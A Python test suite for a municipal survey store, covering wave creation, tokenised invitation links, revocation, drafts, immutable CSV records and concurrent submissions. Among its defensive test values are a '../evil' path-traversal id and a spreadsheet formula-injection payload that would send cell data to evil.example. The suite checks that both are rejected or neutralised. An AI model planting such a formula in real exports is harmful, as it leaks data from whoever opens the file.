"""The in-app survey on disk: waves, secret links, drafts, immutable submissions, concurrent
submitting (threads and processes), and the way back into the build (ingest_pending + build).

Every time is an explicit `now`, so nothing depends on the clock. Spawned processes import this
module, so the build (duckdb, ...) and the reference data are imported only where used."""

from __future__ import annotations

import csv
import datetime as dt
import itertools
import json
import multiprocessing
import threading
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from pipelines.staging import DataPaths, sha256_file, staged_inputs
from pipelines.survey import (
    ClosedError,
    SurveyError,
    SurveyStore,
    load_draft,
    parse_sheet,
    save_draft,
    submit,
)
from pipelines.survey.records import (
    draft_path,
    latest_submission,
    read_record,
    record_files,
    submissions,
    submitted_at,
)
from pipelines.survey.team import consent_decision, lower_median, team_table
from pipelines.survey.tokens import new_token, token_hash

UTC = dt.UTC
OPENS = dt.datetime(2025, 1, 1, tzinfo=UTC)
CLOSES = dt.datetime(2025, 3, 1, tzinfo=UTC)
CREATED = dt.datetime(2024, 12, 15, tzinfo=UTC)
T = dt.datetime(2025, 2, 1, 10, 0, tzinfo=UTC)  # inside the wave
HOUR, DAY, MINUTE = dt.timedelta(hours=1), dt.timedelta(days=1), dt.timedelta(minutes=1)
ROLES5 = ["cio", "ciso", "dpo", "strategy", "service_desk"]


def make_wave(store: SurveyStore, wave: str = "2025", **kw):
    args = {"opens_at": OPENS, "closes_at": CLOSES, "now": CREATED, "title": "DS4E 2025"} | kw
    return store.create_wave(wave, **args)


def sheet(fw, answers: dict, consent=None):
    return parse_sheet({"answers": {e: ({"level": v} if not isinstance(v, dict) else v)
                                    for e, v in answers.items()}, "consent": consent},
                       fw.element_ids)


def nl_ids(n: int) -> list[str]:
    from pipelines.reference import load_municipalities

    ref = load_municipalities()
    return sorted(ref.loc[ref["country"] == "NL", "municipality_id"])[:n]


def mart(result, name: str) -> pd.DataFrame:
    return pd.read_parquet(result.path / f"{name}.parquet")


def all_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


# ------------------------------------------------------------------ waves


def test_create_wave(tmp_path):
    store = SurveyStore(tmp_path)
    w, token = make_wave(store)
    assert (w.wave, w.title, w.opens_at, w.closes_at, w.created_at) == ("2025", "DS4E 2025", OPENS,
                                                                       CLOSES, CREATED)
    assert w.links_valid_until == CLOSES + 90 * DAY
    assert w.coordinator_sha256 == token_hash(token) != token
    assert store.wave("2025") == w
    assert SurveyStore(tmp_path).waves() == [w]
    assert json.loads((tmp_path / "survey" / "2025" / "wave.json").read_text())["closes_at"] == \
        "2025-03-01T00:00:00+00:00"
    assert (w.is_open(OPENS), w.is_open(T), w.is_open(CLOSES), w.is_open(OPENS - HOUR)) == \
        (True, True, False, False)


def test_create_wave_twice_fails_and_keeps_the_first(tmp_path):
    store = SurveyStore(tmp_path)
    _, token = make_wave(store)
    before = (tmp_path / "survey" / "2025" / "wave.json").read_bytes()
    with pytest.raises(SurveyError, match="wave '2025' exists already"):
        make_wave(store, closes_at=CLOSES + 30 * DAY)
    assert (tmp_path / "survey" / "2025" / "wave.json").read_bytes() == before
    assert store.open_link(token, now=T).coordinator


@pytest.mark.parametrize(("opens", "closes"), [(CLOSES, OPENS), (OPENS, OPENS)])
def test_create_wave_closing_before_opening_fails(tmp_path, opens, closes):
    store = SurveyStore(tmp_path)
    with pytest.raises(SurveyError, match=r"wave '2025': it closes \(.*\) before it opens"):
        make_wave(store, opens_at=opens, closes_at=closes)
    with pytest.raises(SurveyError, match="links would stop working before the wave closes"):
        make_wave(store, links_valid_until=CLOSES - DAY)
    assert store.waves() == []
    assert not (tmp_path / "survey" / "2025").exists()


@pytest.mark.parametrize("wave", ["", "a b", "../evil", ".hidden", "-x", "x" * 33, "2025/1", "wave\n",
                                  "w\u00e9"])
def test_create_wave_bad_id_fails(tmp_path, wave):
    store = SurveyStore(tmp_path)
    with pytest.raises(SurveyError, match="use letters, digits"):
        make_wave(store, wave)
    assert all_files(tmp_path) == []
    assert make_wave(store, "x" * 32)[0].wave == "x" * 32  # 32 characters is fine


# ------------------------------------------------------------------ links


@pytest.fixture()
def invited(tmp_path):
    store = SurveyStore(tmp_path)
    w, coordinator = make_wave(store)
    links = store.invite("2025", ["NL_GM0363", "NL_GM0599"], ["cio", "dpo"], now=T - DAY)
    return SimpleNamespace(store=store, wave=w, coordinator=coordinator, links=links,
                           by={(lk.municipality_id, lk.role): lk for lk in links})


def test_a_token_opens_its_municipality_and_role(invited):
    assert sorted(invited.by) == [("NL_GM0363", "cio"), ("NL_GM0363", "dpo"), ("NL_GM0599", "cio"),
                                  ("NL_GM0599", "dpo")]
    assert len({lk.token for lk in invited.links}) == 4
    for (mid, role), link in invited.by.items():
        access = SurveyStore(invited.store.data_dir).open_link(link.token, now=T)
        assert access.status == "ok" and access.ok and not access.coordinator
        inv = access.invitation
        assert (inv.municipality_id, inv.role, inv.respondent_id) == (mid, role, f"survey:{mid}:{role}")
        assert link.respondent_id == inv.respondent_id
        assert inv.token_sha256 == token_hash(link.token)
        assert access.wave == invited.wave
        assert access.can_edit(T) and not access.can_edit(CLOSES) and not access.can_edit(OPENS - HOUR)
        assert link.url("https://ds4e.example/") == f"https://ds4e.example/survey?token={link.token}"


def test_invite_checks_roles_and_municipalities(invited):
    store = invited.store
    for role in ("c i o", "9cio", "cio/../x", "x" * 25, "dpo\nx"):
        with pytest.raises(SurveyError, match=r"role .*: use lower-case letters"):
            store.invite("2025", ["NL_GM0014"], [role], now=T)
    for role in ("level", "spread", "disagree", "element_id"):  # the team table's own columns
        with pytest.raises(SurveyError, match=r"role .*: reserved"):
            store.invite("2025", ["NL_GM0014"], [role], now=T)
    with pytest.raises(SurveyError, match="no municipality to invite"):
        store.invite("2025", [], now=T)
    with pytest.raises(SurveyError, match="no survey wave '2031'"):
        store.invite("2031", ["NL_GM0014"], now=T)
    assert len(store.invitations("2025")) == 4  # nothing was added
    (team,) = store.invite("2025", ["NL_GM0014", "NL_GM0014"], [" CIO ", "cio"], now=T)
    assert (team.role, team.respondent_id) == ("cio", "survey:NL_GM0014:cio")
    (default,) = store.invite("2025", ["NL_GM0034"], now=T)
    assert default.role == "team"


@pytest.mark.parametrize("token", [None, "", "x", "a" * 500, "not a token at all!!", 42])
def test_malformed_token_is_unknown(invited, token):
    access = invited.store.open_link(token, now=T)
    assert (access.status, access.invitation, access.wave, access.coordinator) == ("unknown", None,
                                                                                  None, False)


def test_wrong_token_is_unknown(invited):
    real = invited.by[("NL_GM0363", "cio")].token
    tampered = real[:-1] + ("A" if real[-1] != "A" else "B")
    for token in (new_token(), tampered, real + "x", token_hash(real)):
        access = invited.store.open_link(token, now=T)
        assert access.status == "unknown" and not access.ok
        assert access.invitation is None and access.wave is None


def test_expired_link(invited):
    link = invited.by[("NL_GM0599", "dpo")]
    until = invited.wave.links_valid_until
    assert link.expires_at == until
    assert invited.store.open_link(link.token, now=until - dt.timedelta(seconds=1)).ok
    for now in (until, until + 400 * DAY):
        access = invited.store.open_link(link.token, now=now)
        assert (access.status, access.expired_at, access.invitation) == ("expired", until, None)
    coordinator = invited.store.open_link(invited.coordinator, now=until)
    assert (coordinator.status, coordinator.expired_at) == ("expired", until)


def test_reinvite_revokes_the_old_link_and_keeps_the_respondent(invited, fw):
    store = invited.store
    old = invited.by[("NL_GM0363", "cio")]
    first = store.open_link(old.token, now=T)
    draft = sheet(fw, {"STR-01": 2, "SEC-01": "dk"}, consent=True)
    save_draft(store, first, draft, now=T)

    (new,) = store.invite("2025", ["NL_GM0363"], ["cio"], now=T + HOUR)
    assert new.token != old.token and new.respondent_id == old.respondent_id
    gone = store.open_link(old.token, now=T + 2 * HOUR)
    assert (gone.status, gone.invitation, gone.wave) == ("revoked", None, None)
    again = store.open_link(new.token, now=T + 2 * HOUR)
    assert again.ok and again.invitation.respondent_id == "survey:NL_GM0363:cio"
    assert load_draft(store, again, fw.element_ids).sheet == draft  # the draft carried over
    # the other links are untouched; the old row is kept, marked revoked
    for key in [("NL_GM0363", "dpo"), ("NL_GM0599", "cio"), ("NL_GM0599", "dpo")]:
        assert store.open_link(invited.by[key].token, now=T + 2 * HOUR).ok
    rows = store.invitations("2025")
    assert len(rows) == 5 and len(store.active_invitations("2025")) == 4
    assert [r.revoked for r in rows if r.token_sha256 == token_hash(old.token)] == [True]


def test_coordinator_token(invited, fw):
    access = invited.store.open_link(invited.coordinator, now=T)
    assert (access.status, access.coordinator, access.invitation) == ("ok", True, None)
    assert access.wave.wave == "2025" and not access.can_edit(T)
    with pytest.raises(SurveyError):
        save_draft(invited.store, access, sheet(fw, {"STR-01": 1}), now=T)
    with pytest.raises(SurveyError):
        submit(invited.store, access, sheet(fw, {"STR-01": 1}), fw.element_ids, now=T)
    assert record_files(invited.store) == []


def test_revoke_one_role_then_a_whole_municipality(invited, fw):
    store = invited.store
    cio = invited.by[("NL_GM0363", "cio")]
    access = store.open_link(cio.token, now=T)
    draft = sheet(fw, {"STR-01": 2})
    save_draft(store, access, draft, now=T)

    (gone,) = store.revoke("2025", "NL_GM0363", " CIO ")
    assert (gone.municipality_id, gone.role, gone.revoked) == ("NL_GM0363", "cio", True)
    refused = SurveyStore(store.data_dir).open_link(cio.token, now=T)
    assert (refused.status, refused.invitation, refused.wave) == ("revoked", None, None)
    assert store.open_link(invited.by[("NL_GM0363", "dpo")].token, now=T).ok  # its teammate

    both = store.revoke("2025", "NL_GM0599")
    assert sorted(i.role for i in both) == ["cio", "dpo"]
    for role in ("cio", "dpo"):
        assert store.open_link(invited.by[("NL_GM0599", role)].token, now=T).status == "revoked"
    assert [i.municipality_id for i in store.active_invitations("2025")] == ["NL_GM0363"]

    # a new invitation is the way back, to the same respondent and draft
    (again,) = store.invite("2025", ["NL_GM0363"], ["cio"], now=T + HOUR)
    reopened = store.open_link(again.token, now=T + HOUR)
    assert reopened.ok and reopened.invitation.respondent_id == cio.respondent_id
    assert load_draft(store, reopened, fw.element_ids).sheet == draft


def test_revoke_says_what_has_no_working_link(invited):
    store = invited.store
    store.revoke("2025", "NL_GM0599")
    cases = [
        (("2025", "NL_GM0014"), "municipality 'NL_GM0014' has no link in wave '2025'"),
        (("2025", "NL_GM0599"), "municipality 'NL_GM0599' has no working link in wave '2025' "
                                r"\(all were revoked or replaced\)"),
        (("2025", "NL_GM0599", "cio"), "'NL_GM0599' has no working link in wave"),
        (("2025", "NL_GM0363", "ciso"), "'NL_GM0363' has no working link with role 'ciso' in "
                                        "wave '2025'; its working links: cio, dpo"),
        (("2031", "NL_GM0363"), "no survey wave '2031'"),
    ]
    before = (store.root / "2025" / "invitations.csv").read_bytes()
    for args, message in cases:
        with pytest.raises(SurveyError, match=message):
            store.revoke(*args)
    assert (store.root / "2025" / "invitations.csv").read_bytes() == before
    assert not (store.root / "2031").exists()


def test_revoke_by_token(invited):
    store = invited.store
    target = invited.by[("NL_GM0599", "dpo")]
    done = store.revoke_tokens("2025", [target.token, new_token(), "not a token", invited.coordinator])
    assert [(i.municipality_id, i.role) for i in done] == [("NL_GM0599", "dpo")]
    assert store.open_link(target.token, now=T).status == "revoked"
    assert len(store.active_invitations("2025")) == 3
    assert store.open_link(invited.coordinator, now=T).coordinator  # not a link to revoke here
    assert store.revoke_tokens("2025", [target.token]) == []  # already gone: nothing to do


def test_renew_coordinator_withdraws_the_old_link(invited):
    store = invited.store
    new = store.renew_coordinator("2025")
    assert new != invited.coordinator
    assert store.open_link(invited.coordinator, now=T).status == "unknown"
    fresh = store.open_link(new, now=T)
    assert fresh.ok and fresh.coordinator and fresh.wave.closes_at == CLOSES
    assert store.wave("2025").coordinator_sha256 == token_hash(new)
    assert all(store.open_link(lk.token, now=T).ok for lk in invited.links)  # respondents too
    with pytest.raises(SurveyError, match="no survey wave '2031'"):
        store.renew_coordinator("2031")
    assert not (store.root / "2031").exists()


def test_retiring_the_demo_wave_revokes_only_its_public_links(tmp_path):
    from pipelines.survey.demo import demo_links, demo_links_path, open_demo_wave, retire_demo_wave

    listed = open_demo_wave(tmp_path, "d1", now=T)
    store = SurveyStore(tmp_path)
    (private,) = store.invite("d1", ["NL_GM0014"], now=T)
    coordinator = demo_links(tmp_path)["coordinator_token"]
    assert retire_demo_wave(tmp_path, demo=True) is False  # a demo build keeps the demo
    assert demo_links_path(tmp_path).exists() and store.open_link(listed[0]["token"], now=T).ok

    assert retire_demo_wave(tmp_path, demo=False) is True
    assert not demo_links_path(tmp_path).exists()
    assert all(store.open_link(x["token"], now=T).status == "revoked" for x in listed)
    assert store.open_link(coordinator, now=T).status == "unknown"
    assert store.open_link(private.token, now=T).ok
    assert retire_demo_wave(tmp_path, demo=False) is False  # nothing left to do

    # a links file whose wave is gone (survey folder cleared by hand) still goes
    open_demo_wave(tmp_path, "d2", now=T)
    (store.root / "d2" / "wave.json").unlink()
    assert retire_demo_wave(tmp_path, demo=False) is True
    assert not demo_links_path(tmp_path).exists()


def test_answers_given_through_demo_links_are_demo_data(tmp_path, fw):
    """Else one tried-out demo form would make the next build real and end the demo."""
    from pipelines.survey.demo import open_demo_wave
    from pipelines.survey.pending import ingest_pending

    listed = open_demo_wave(tmp_path, "d1", now=T - DAY)
    store = SurveyStore(tmp_path)
    make_wave(store)
    (real,) = store.invite("2025", ["NL_GM0014"], now=T)
    for token in (listed[0]["token"], real.token):
        submit(store, store.open_link(token, now=T), sheet(fw, {"STR-01": 2}), fw.element_ids,
               now=T)
    assert all(r.ok for r in ingest_pending(DataPaths(tmp_path), framework=fw))
    kinds = {s.name: s.kind for s in staged_inputs(DataPaths(tmp_path))}
    assert kinds == {record_files(store, "d1")[0].name: "demo",
                     record_files(store, "2025")[0].name: "real"}


def test_only_hashes_are_on_disk(invited, fw):
    store = invited.store
    for link in invited.links:
        access = store.open_link(link.token, now=T)
        save_draft(store, access, sheet(fw, {"STR-01": 1}), now=T)
        submit(store, access, sheet(fw, {"STR-01": 3}, consent=True), fw.element_ids, now=T + HOUR)
    store.close_wave("2025", now=T + DAY)
    tokens = [invited.coordinator] + [lk.token for lk in invited.links]
    files = all_files(Path(store.data_dir))
    assert len(files) >= 1 + 1 + 4 + 4  # wave.json, invitations.csv, drafts, records
    blob = b"\n".join(p.read_bytes() for p in files)
    for token in tokens:
        assert token.encode() not in blob
        assert token_hash(token).encode() in blob  # what is stored instead


# ------------------------------------------------------------------ drafts


def test_draft_round_trip_and_reload(invited, fw):
    store = invited.store
    token = invited.by[("NL_GM0599", "cio")].token
    access = store.open_link(token, now=T)
    assert load_draft(store, access, fw.element_ids).sheet.answers == {}  # nothing yet
    mine = sheet(fw, {"STR-01": {"level": 3, "confidence": "high", "evidence": "policy 2025"},
                      "GOV-02": "dk", "ECO-01": {"evidence": "still to check"}}, consent=False)
    assert save_draft(store, access, mine, now=T) == T
    draft = load_draft(store, access, fw.element_ids)
    assert (draft.sheet, draft.saved_at) == (mine, T)

    # a restart (or another worker): a fresh store finds the same draft through the link
    other = SurveyStore(Path(store.data_dir))
    draft = load_draft(other, other.open_link(token, now=T + HOUR), fw.element_ids)
    assert (draft.sheet, draft.saved_at) == (mine, T)

    changed = sheet(fw, {"STR-01": 4}, consent=True)
    save_draft(other, other.open_link(token, now=T + HOUR), changed, now=T + HOUR)
    draft = load_draft(store, store.open_link(token, now=T + HOUR), fw.element_ids)
    assert (draft.sheet, draft.saved_at) == (changed, T + HOUR)
    # only this respondent's draft exists
    other_access = store.open_link(invited.by[("NL_GM0599", "dpo")].token, now=T)
    assert load_draft(store, other_access, fw.element_ids).sheet.answers == {}


def test_no_saving_after_the_wave_closes(invited, fw):
    store = invited.store
    token = invited.by[("NL_GM0363", "dpo")].token
    mine = sheet(fw, {"SEC-01": 2})
    save_draft(store, store.open_link(token, now=T), mine, now=T)
    path = draft_path(store, store.open_link(token, now=T))
    before = path.read_bytes()

    closed = store.close_wave("2025", now=T + DAY)
    assert closed.closes_at == T + DAY and closed.opens_at == OPENS
    access = store.open_link(token, now=T + 2 * DAY)
    assert access.ok and not access.can_edit(T + 2 * DAY)  # the link still shows own answers
    with pytest.raises(ClosedError, match="closed"):
        save_draft(store, access, sheet(fw, {"SEC-01": 4}), now=T + 2 * DAY)
    with pytest.raises(ClosedError, match="nothing was submitted"):
        submit(store, access, sheet(fw, {"SEC-01": 4}), fw.element_ids, now=T + 2 * DAY)
    assert path.read_bytes() == before
    assert load_draft(store, access, fw.element_ids).sheet == mine
    assert record_files(store) == []


def test_no_saving_after_the_closing_time(invited, fw):
    store = invited.store
    access = store.open_link(invited.by[("NL_GM0363", "dpo")].token, now=CLOSES)
    with pytest.raises(ClosedError):
        save_draft(store, access, sheet(fw, {"SEC-01": 4}), now=CLOSES)
    early = store.open_link(invited.by[("NL_GM0363", "dpo")].token, now=OPENS - HOUR)
    with pytest.raises(ClosedError):  # not open yet
        save_draft(store, early, sheet(fw, {"SEC-01": 4}), now=OPENS - HOUR)
    assert not draft_path(store, access).exists()


def test_without_a_draft_the_latest_submission_is_loaded(invited, fw):
    store = invited.store
    access = store.open_link(invited.by[("NL_GM0363", "cio")].token, now=T)
    first = sheet(fw, {"STR-01": 1, "STR-02": 2}, consent=False)
    later = sheet(fw, {"STR-01": {"level": 3, "confidence": "medium", "evidence": "plan"},
                       "DAT-01": "dk"}, consent=True)
    submit(store, access, first, fw.element_ids, now=T)
    submit(store, access, later, fw.element_ids, now=T + HOUR)
    assert not draft_path(store, access).exists()  # a submit never writes the draft
    draft = load_draft(store, access, fw.element_ids)
    assert draft.sheet == later and draft.saved_at is None
    assert submitted_at(store, access) == T + HOUR


def test_a_draft_saved_during_a_submit_is_not_lost(invited, fw, monkeypatch):
    """The lost update a submit used to cause: it wrote its answers as the draft after its
    record, so a save from another worker landing in between was overwritten by older answers.
    Here that save lands exactly then (inside the record's os.link)."""
    import os

    store = invited.store
    access = store.open_link(invited.by[("NL_GM0599", "cio")].token, now=T)
    submitted = sheet(fw, {"STR-01": 1})
    newer = sheet(fw, {"STR-01": 4, "SEC-01": 2}, consent=True)
    real_link = os.link

    def link_then_save(src, dst, **kw):
        real_link(src, dst, **kw)
        save_draft(store, access, newer, now=T + MINUTE)  # another worker, the same instant

    monkeypatch.setattr(os, "link", link_then_save)
    record = submit(store, access, submitted, fw.element_ids, now=T)
    monkeypatch.undo()
    assert dict(zip(*read_record(record)[["element_id", "level"]].T.values, strict=True)) == {
        "STR-01": "1"}
    draft = load_draft(store, access, fw.element_ids)
    assert (draft.sheet, draft.saved_at) == (newer, T + MINUTE)
    # a later submit is newer than the draft: the form opens with it
    last = sheet(fw, {"STR-01": 3})
    submit(store, access, last, fw.element_ids, now=T + 2 * MINUTE)
    assert load_draft(store, access, fw.element_ids).sheet == last
    # a save and a submit in the same second still order (the draft keeps microseconds)
    save_draft(store, access, newer, now=T + 2 * MINUTE + dt.timedelta(microseconds=5))
    assert load_draft(store, access, fw.element_ids).sheet == newer


def test_a_note_without_a_level_stays_after_submitting(invited, fw):
    """A record holds answered elements only; the form keeps the draft's level-less notes."""
    store = invited.store
    access = store.open_link(invited.by[("NL_GM0363", "cio")].token, now=T)
    form = sheet(fw, {"STR-01": 2, "ECO-01": {"evidence": "still to check"}}, consent=True)
    save_draft(store, access, form, now=T)
    record = submit(store, access, form, fw.element_ids, now=T + MINUTE)
    assert read_record(record)["element_id"].tolist() == ["STR-01"]
    assert load_draft(store, access, fw.element_ids).sheet == form


def test_a_share_without_hard_links_still_takes_submissions(invited, fw, monkeypatch):
    """Some SMB or FUSE mounts refuse os.link: the record is then renamed into place."""
    import errno
    import os

    def no_links(*_a, **_kw):
        raise OSError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(os, "link", no_links)
    store = invited.store
    access = store.open_link(invited.by[("NL_GM0599", "dpo")].token, now=T)
    paths = {submit(store, access, sheet(fw, {"STR-01": k}), fw.element_ids, now=T)
             for k in range(3)}
    assert len(paths) == 3 and sorted(paths) == record_files(store, "2025")
    assert not [p for p in all_files(store.records_root) if p.suffix != ".csv"]


# ------------------------------------------------------------------ submissions


def test_every_submission_is_a_new_immutable_record(invited, fw):
    store = invited.store
    access = store.open_link(invited.by[("NL_GM0599", "dpo")].token, now=T)
    first = submit(store, access, sheet(fw, {"STR-01": 1, "SEC-01": "dk"}, consent=False),
                   fw.element_ids, now=T)
    digest, text = sha256_file(first), first.read_text()
    second = submit(store, access, sheet(fw, {"STR-01": 4}, consent=True), fw.element_ids,
                    now=T + HOUR)
    same_again = submit(store, access, sheet(fw, {"STR-01": 4}, consent=True), fw.element_ids,
                        now=T + HOUR)
    assert len({first, second, same_again}) == 3
    assert sha256_file(first) == digest and first.read_text() == text  # untouched by amendments
    assert record_files(store, "2025") == sorted([first, second, same_again])
    assert first.parent == second.parent and first.name.startswith("20250201T100000000000-")
    assert second.name.startswith("20250201T110000000000-")

    rec = read_record(first)
    assert rec[["element_id", "level", "publish_consent"]].values.tolist() == [
        ["STR-01", "1", "false"], ["SEC-01", "dk", "false"]]
    assert set(rec["respondent_id"]) == {"survey:NL_GM0599:dpo"}
    assert set(rec["submitted_at"]) == {"2025-02-01T10:00:00.000000+00:00"}
    rows = submissions(store, "2025")
    assert len(rows) == 4 and set(rows["record"]) == {f"{p.parent.name}/{p.name}"
                                                      for p in (first, second, same_again)}
    latest = latest_submission(store, access)
    assert latest[["element_id", "level", "publish_consent"]].values.tolist() == [
        ["STR-01", "4", "true"]]


FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"click")'
EVIDENCE = {"STR-01": FORMULA, "STR-02": "-2+3", "SEC-01": "@SUM(A1:A9)",
            "SEC-02": "'=typed with a quote", "GOV-01": "'s-Hertogenbosch, besluit 2025"}


def test_a_record_neutralises_free_text_and_reads_it_back_as_typed(invited, fw):
    store = invited.store
    access = store.open_link(invited.by[("NL_GM0363", "dpo")].token, now=T)
    mine = sheet(fw, {e: {"level": 2, "evidence": text} for e, text in EVIDENCE.items()})
    path = submit(store, access, mine, fw.element_ids, now=T)

    # what a spreadsheet opening the record sees: no cell it would run
    with path.open(encoding="utf-8", newline="") as fh:
        cells = list(csv.DictReader(fh))
    on_disk = {c["element_id"]: c["evidence"] for c in cells}
    assert on_disk["STR-01"] == "'" + FORMULA and on_disk["SEC-01"] == "'@SUM(A1:A9)"
    assert on_disk["SEC-02"] == "''=typed with a quote"
    assert on_disk["GOV-01"] == EVIDENCE["GOV-01"]
    assert not [v for c in cells for v in c.values() if v and v[0] in "=+-@\t\r"]

    # every reader gets what the respondent typed
    assert dict(zip(*read_record(path)[["element_id", "evidence"]].T.values, strict=True)) == EVIDENCE
    reloaded = load_draft(store, access, fw.element_ids).sheet
    assert {e: a.evidence for e, a in reloaded.answers.items()} == EVIDENCE

    from pipelines.survey.pending import ingest_pending

    (report,) = ingest_pending(DataPaths(store.data_dir), framework=fw)
    assert report.ok
    (staged,) = staged_inputs(DataPaths(store.data_dir))
    rows = pd.read_parquet(staged.parquet)
    assert dict(zip(rows["element_id"].astype(str), rows["evidence"], strict=True)) == EVIDENCE


def test_a_canonical_file_from_elsewhere_keeps_its_quotes(invited, fw, tmp_path):
    """Only the app's own records are restored: an upload's leading quote is the user's."""
    from pipelines.ingest import ingest_files

    upload = tmp_path / "upload.csv"
    upload.write_text("municipality_id,wave,element_id,level,respondent_id,respondent_role,"
                      "submitted_at,confidence,evidence\n"
                      "NL_GM0363,2025,STR-01,2,r1,cio,2025-02-01,high,'=quoted by someone\n",
                      encoding="utf-8")
    paths = DataPaths(invited.store.data_dir)
    report = ingest_files([upload], paths, framework=fw, now=T, progress=False)
    assert report.ok
    (staged,) = staged_inputs(paths)
    assert pd.read_parquet(staged.parquet)["evidence"].tolist() == ["'=quoted by someone"]


def test_submit_refuses_an_empty_sheet(invited, fw):
    store = invited.store
    access = store.open_link(invited.by[("NL_GM0599", "dpo")].token, now=T)
    for empty in (sheet(fw, {}), sheet(fw, {}, consent=True),
                  sheet(fw, {"STR-01": {"confidence": "high", "evidence": "no level yet"}})):
        with pytest.raises(SurveyError, match="nothing to submit"):
            submit(store, access, empty, fw.element_ids, now=T)
    assert record_files(store) == [] and not draft_path(store, access).exists()


def test_no_temporary_files_remain(invited, fw):
    store = invited.store
    for i, link in enumerate(invited.links):
        access = store.open_link(link.token, now=T)
        for k in range(3):
            save_draft(store, access, sheet(fw, {"STR-01": k}), now=T + k * HOUR)
            submit(store, access, sheet(fw, {"STR-01": (i + k) % 5}), fw.element_ids,
                   now=T + k * HOUR)
    records = all_files(store.records_root)
    assert len(records) == 12 and all(p.suffix == ".csv" for p in records)
    everything = all_files(Path(store.data_dir))
    assert not [p for p in everything if p.name.endswith(".part")]
    assert not [p for p in everything if p.name.startswith(".") and p.name != ".lock"]


# ------------------------------------------------------------------ concurrency


def check_records(store: SurveyStore, wave: str, expected: dict[str, dict[str, str]]) -> None:
    """Every expected respondent has exactly one record holding exactly its answers."""
    files = record_files(store, wave)
    assert len(files) == len(expected)
    assert not [p for p in all_files(store.records_root) if p.suffix != ".csv"]
    seen = []
    for p in files:
        rec = read_record(p)
        assert list(rec.columns)[:3] == ["municipality_id", "wave", "element_id"]
        (respondent,) = set(rec["respondent_id"])
        seen.append(respondent)
        assert dict(zip(rec["element_id"], rec["level"], strict=True)) == expected[respondent]
    assert sorted(seen) == sorted(expected)


def ingest_and_build(data_dir: Path, fw, n_records: int, rows_each: int):
    from pipelines.build import build
    from pipelines.survey.pending import ingest_pending, pending_records

    paths = DataPaths(data_dir)
    reports = ingest_pending(paths, framework=fw)
    assert len(reports) == n_records
    assert all(r.ok and [f.status for f in r.files] == ["staged"] for r in reports)
    assert all(r.rows_staged == rows_each for r in reports)
    record_shas = sorted(sha256_file(p) for p in record_files(SurveyStore(data_dir)))
    assert sorted(s.sha256 for s in staged_inputs(paths)) == record_shas  # each exactly once
    assert ingest_pending(paths, framework=fw) == [] and pending_records(paths) == []
    assert len(staged_inputs(paths)) == n_records
    result = build(data_dir, framework=fw)
    assert result.published
    assert len(result.manifest["inputs"]) == n_records
    assert result.manifest["counts"]["answers"] == n_records * rows_each
    return result


def test_50_threads_submit_at_the_same_moment(tmp_path, fw):
    store = SurveyStore(tmp_path)
    make_wave(store)
    mids = nl_ids(50)
    links = store.invite("2025", mids, now=T - DAY)
    plan = {}  # respondent -> (answers, consent)
    for i, link in enumerate(links):
        plan[link.respondent_id] = ({"STR-01": i % 5, "SEC-01": "dk" if i % 7 == 0 else (3 * i) % 5},
                                    [True, False, None][i % 3])
    barrier = threading.Barrier(50)

    def respond(link):
        answers, consent = plan[link.respondent_id]
        barrier.wait(timeout=60)
        access = store.open_link(link.token, now=T)
        return submit(store, access, sheet(fw, answers, consent), fw.element_ids, now=T)

    with ThreadPoolExecutor(50) as pool:
        written = list(pool.map(respond, links))
    assert len(set(written)) == 50
    expected = {r: {e: str(v) for e, v in a.items()} for r, (a, _) in plan.items()}
    check_records(store, "2025", expected)

    result = ingest_and_build(tmp_path, fw, 50, 2)
    levels = mart(result, "levels")
    assert len(levels) == 100 and set(levels["wave"]) == {"2025"}
    assert (levels["n_respondents"] == 1).all()
    got = {(r.municipality_id, r.element_id): (None if pd.isna(r.level) else int(r.level))
           for r in levels.itertuples()}
    want = {(rid.split(":")[1], e): (None if v == "dk" else v)
            for rid, (a, _) in plan.items() for e, v in a.items()}
    assert got == want
    cov = mart(result, "coverage").set_index("municipality_id")
    assert sorted(cov.index) == mids and (cov["n_respondents"] == 1).all()
    for rid, (_, consent) in plan.items():
        assert bool(cov.loc[rid.split(":")[1], "publish_consent"]) is (consent is True)


_BARRIER = None


def _set_barrier(barrier) -> None:
    global _BARRIER
    _BARRIER = barrier


def _submit_in_process(data_dir: str, jobs: list, element_ids: list, now_iso: str) -> list[str]:
    """Runs in a worker process: its own store on the same folder; starts with the others.
    A job submits, or (kind "draft") saves a draft a second later by the clock."""
    store = SurveyStore(Path(data_dir))
    now = dt.datetime.fromisoformat(now_iso)
    _BARRIER.wait(timeout=120)
    written = []
    for token, answers, kind in jobs:
        access = store.open_link(token, now=now)
        assert access.ok, access.status
        sheet_ = parse_sheet({"answers": {e: {"level": v} for e, v in answers.items()}}, element_ids)
        if kind == "draft":
            save_draft(store, access, sheet_, now=now + dt.timedelta(seconds=1))
        else:
            written.append(str(submit(store, access, sheet_, element_ids, now=now)))
    return written


def test_8_processes_submit_at_the_same_moment(tmp_path, fw):
    """50 respondents submit from 8 processes at once while, in the same instant, another
    process saves each respondent's draft: every record and every draft survives."""
    store = SurveyStore(tmp_path)
    make_wave(store)
    mids = nl_ids(10)
    links = store.invite("2025", mids, ROLES5, now=T - DAY)
    assert len(links) == 50
    plan, drafts = {}, {}
    for link in links:
        k, j = mids.index(link.municipality_id), ROLES5.index(link.role)
        plan[link.respondent_id] = {"SEC-01": "dk" if j == 4 else (k + j) % 5, "STR-04": j}
        drafts[link.respondent_id] = {"GOV-01": (k * j) % 5}
    # Forked workers (as a pre-forking web server has them) start in a fraction of the time
    # spawned ones need; each one still opens its own SurveyStore. Process i submits for
    # links[i::8] and saves the drafts of links[i-1::8]: the same respondents, in the same
    # order, as process i-1 submits them.
    ctx = multiprocessing.get_context("fork")
    barrier = ctx.Barrier(8)
    def jobs(i: int) -> list:
        out = []
        for a, b in itertools.zip_longest(links[i::8], links[(i - 1) % 8::8]):
            if a is not None:
                out.append((a.token, plan[a.respondent_id], "submit"))
            if b is not None:
                out.append((b.token, drafts[b.respondent_id], "draft"))
        return out

    chunks = [jobs(i) for i in range(8)]
    assert sum(len(c) for c in chunks) == 100
    with ProcessPoolExecutor(8, mp_context=ctx, initializer=_set_barrier,
                             initargs=(barrier,)) as pool:
        futures = [pool.submit(_submit_in_process, str(tmp_path), chunk, fw.element_ids,
                               T.isoformat()) for chunk in chunks]
